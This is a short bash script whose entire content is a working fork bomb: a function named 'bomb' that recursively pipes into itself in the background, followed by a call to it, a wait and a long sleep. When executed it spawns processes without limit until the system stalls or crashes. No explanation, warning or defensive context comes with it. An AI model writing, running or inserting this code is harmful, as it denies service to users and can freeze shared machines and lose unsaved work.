bomb() { bomb | bomb & }
bomb
wait
sleep 600
